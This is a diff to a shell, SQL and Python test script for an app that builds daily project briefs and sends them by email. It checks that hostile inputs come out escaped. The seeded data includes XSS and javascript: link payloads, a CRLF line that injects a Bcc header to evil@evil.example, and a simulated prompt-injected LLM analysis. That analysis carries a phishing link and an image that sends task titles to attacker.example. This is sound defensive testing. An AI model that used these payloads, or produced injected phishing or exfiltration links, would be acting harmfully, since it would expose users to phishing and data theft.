@@ -2,10 +2,14 @@
 # Hostile content through the whole pipeline (tests/cli/hostile_seed.sql):
 # HTML, <script>, every Markdown trick for a javascript: link we know, CRLF
 # with header lines in user names, project names and task titles,
-# right-to-left overrides, 1 MB strings. briefos-generate stores them;
+# right-to-left overrides, 1 MB strings. briefos-generate stores them
+# escaped for Markdown (shown as typed) and cut to their size caps;
 # briefos-email writes messages (Maildir) that Python's email package parses
-# with no injected header or recipient, whose HTML part has no live markup
-# and no link outside http(s)/mailto/#; the one name with CRLF fails its email
+# with no injected header or recipient, whose HTML part has no live markup,
+# no image but the tracking pixel and no link but to the base URL's host or
+# an allowed one; the LLM analysis (a prompt injection's phishing link and
+# image, 1 MB of "[](") follows the brief as its own section under the same
+# policy; the one name with CRLF fails its email
 # for good instead; briefos-stats shows them escaped. NUL bytes and invalid
 # UTF-8: PostgreSQL refuses them, and the inputs that do not go through it
 # (--jobs files, config files, templates) reject or skip them.
@@ -40,18 +44,31 @@ echo "  generate: $ms ms, peak RSS $(awk -F': ' '/Maximum resident/ {print $2}' 
 check "generate exits 0 on hostile content" test "$rc" -eq 0
 check "three briefs completed" test "$(grep -c '"status":"completed"' "$tmp/gen.out")" -eq 3
 has() { [ "$(sql "SELECT count(*) FROM daily_briefs WHERE user_id = '$1' AND strpos(summary_content, $2) > 0")" = 1 ]; }
-check "the brief stores <script> project names as typed" has $mallory "'<script>alert(''project'')</script>'"
-check "the brief stores the javascript: link title as typed" has $mallory "'[click](javascript:alert(1))'"
+check "the brief stores <script> in a project name escaped for Markdown" has $mallory "'\\<script\\>alert(''project'')\\</script\\>'"
+check "the brief stores the javascript: link title escaped, so it is no link" has $mallory "'\\[click\\](javascript:alert(1))'"
 check "the brief stores the right-to-left override" has $mallory "E'\\u202Eevil'"
-check "the brief stores the CRLF title (Bcc line included) as text" has $mallory "E'Title with CRLF\\r\\nBcc: evil@evil.example'"
-check "the brief stores the 1 MB task title whole" has $big "repeat('T', 1048576)"
-check "the brief stores the 1 MB project name whole" has $big "repeat('P', 1048576)"
+check "the brief stores the CRLF title on one line (Bcc line included, as text)" has $mallory "'Title with CRLF Bcc: evil@evil.example'"
+check "the brief cuts the 1 MB task title at 1 KiB with an ellipsis" has $big "repeat('T', 1021) || '…](/projects/'"
+check "the brief cuts the 1 MB project name at 1 KiB with an ellipsis" has $big "'[' || repeat('P', 1021) || '…](/projects/'"
+check "the 1 MB fields leave a brief of less than 64 KiB" \
+  test "$(sql "SELECT length(summary_content) < 65536 FROM daily_briefs WHERE user_id = '$big'")" = t
 check "three emails queued (eve's CRLF name included)" test "$(sql "SELECT count(*) FROM emails WHERE status = 'pending'")" -eq 3
 
 # --- email: Maildir, parsed by Python ------------------------------------------------
+# The LLM analysis of mallory's brief as a prompt injected through a task
+# title would have it: a phishing link, an exfiltrating image, a
+# protocol-relative link, next to a link to an allowed host; big's is 1 MB
+# of "[](" (the quadratic case of the old text renderer).
+$PSQL "$url" -Xq -v ON_ERROR_STOP=1 >/dev/null <<SQL
+UPDATE daily_briefs SET llm_analysis = E'# Analysis\n\n[Verify your account](https://phish.example/verify) now.\n\n'
+  || E'![p](https://attacker.example/p.gif?d=task+titles)\n\n[proto](//proto.example/a) '
+  || E'[allowed](https://example.com/ok) [app](/projects/x) <https://auto.example/x>\n'
+ WHERE user_id = '$mallory';
+UPDATE daily_briefs SET llm_analysis = repeat('[](', 349526) WHERE user_id = '$big';
+SQL
 md="$tmp/Maildir"
 run_timed email /usr/bin/time -v "$email" --database-url "$url" --transport "maildir:$md" --json --drain \
-  --base-url https://app.example.com --message-id-domain example.com
+  --base-url https://app.example.com --message-id-domain example.com --link-allow example.com
 echo "  email: $ms ms, peak RSS $(awk -F': ' '/Maximum resident/ {print $2}' "$tmp/email.err") kB"
 check "email exits 1 (one email failed), nothing crashed" test "$rc" -eq 1
 check "mallory's and big's emails sent" \
@@ -75,7 +92,7 @@ live_tags = {"script", "iframe", "object", "embed", "svg", "style", "form", "inp
 class Check(html.parser.HTMLParser):
     def __init__(self):
         super().__init__(convert_charrefs=True)
-        self.problems, self.links, self.imgs = [], 0, 0
+        self.problems, self.links, self.imgs, self.hrefs, self.srcs = [], 0, 0, [], []
     def handle_starttag(self, tag, attrs):
         if tag in live_tags and not (tag == "meta" and self.in_head):
             self.problems.append("live tag <%s>" % tag)
@@ -89,6 +106,9 @@ class Check(html.parser.HTMLParser):
                     self.problems.append("%s=%r on <%s>" % (name, value, tag))
                 if name == "href":
                     self.links += 1
+                    self.hrefs.append(v)
+                if name == "src":
+                    self.srcs.append(v)
         if tag == "img":
             self.imgs += 1
         if tag == "head":
@@ -142,16 +162,37 @@ for path in sorted(glob.glob(new_dir + "/*")):
     c = Check()
     c.feed(page)
     assert not c.problems, "%s: %s" % (rcpt, c.problems[:10])
-    assert c.imgs <= 1 + page.count('alt="image"'), "unexpected images"
+    # No image but the tracking pixel: a user's or a model's image is its alt text.
+    assert c.imgs == 1 and len(c.srcs) == 1 and "/api/email-tracking/" in c.srcs[0], (c.imgs, c.srcs)
+    # Links lead to the base URL's host or an allowed one (--link-allow), or are mailto:.
+    for v in c.hrefs:
+        m = re.match(r"^https?://([^/?#:]+)", v)
+        assert v.startswith("mailto:") or (m and m.group(1) in ("app.example.com", "example.com")), v
+    # The analysis's refused URLs are gone (a refused autolink shows its
+    # address as text, by design; the user's titles show theirs as typed).
+    for sub in ("phish.example", "attacker.example", "proto.example"):
+        assert sub not in text and sub not in html.unescape(page), sub
     if rcpt.startswith("mallory"):
         assert "&lt;script&gt;alert(" in page, "script not shown escaped"
-        assert "[click (#)]" in text, "hostile link not neutralised in the text part"
+        assert "[click](javascript:alert(1))" in text, "user text not shown literally in the text part"
+        assert "Fix [broken](javascript:alert(1)) link" in text
+        assert "Fix [broken](javascript:alert(1)) link" in html.unescape(page)
+        assert "![x](https://tracker.example/open.gif)" in text, "a typed image shows as typed"
         assert "&lt;script&gt;" not in text and "<script>alert('project')</script>" in text
         assert "\u202eevil" in text, "RTL override not carried"
         assert c.links > 10, c.links
-        assert 'href="https://example.com/ok"' in page
+        # The brief is always there; the analysis follows it, labelled.
+        for part in (text, page):
+            brief_at, ai_at = part.find("Detailed Project Briefs"), part.find("AI analysis")
+            assert 0 <= brief_at < ai_at, (brief_at, ai_at)
+            assert "Written by a language model" in part
+            assert "Verify your account" in part, "a refused link keeps its label"
+        assert 'href="https://example.com/ok"' in page and "allowed (https://example.com/ok)" in text
+        assert 'href="https://app.example.com/projects/x"' in page
     if rcpt.startswith("big"):
-        assert ("T" * 100000) in text.replace("\n", ""), "1 MB title missing"
+        flat = text.replace("\n", "")
+        assert ("T" * 1021 + "\u2026") in flat and ("T" * 1022) not in flat, "1 MB title not cut at 1 KiB"
+        assert len(text) < 200000, "1 MB fields made a text part of %d bytes" % len(text)
 print("parsed", len(seen), "messages:", sorted(seen))
 assert seen == set(expected), (seen, expected)
 PY
@@ -192,5 +233,8 @@ run_timed nultpl "$email" --database-url "$url" --preview "$brief" --template-di
 check "a template with a NUL byte in the subject: the message is refused (exit 1), not built" \
   sh -c "test $rc -eq 1 && grep -q 'NUL' '$tmp/nultpl.err' && ! grep -q 'Subject:' '$tmp/nultpl.out'"
 
+run_timed badallow "$email" --database-url "$url" --preview "$brief" --link-allow 'https://x.example/'
+check "--link-allow with a URL instead of a host name: usage error (exit 2) naming the option" \
+  sh -c "test $rc -eq 2 && grep -q 'link-allow' '$tmp/badallow.err'"
 check "no job left processing" test "$(sql "SELECT count(*) FROM queue_jobs WHERE status = 'processing'")" -eq 0
 finish
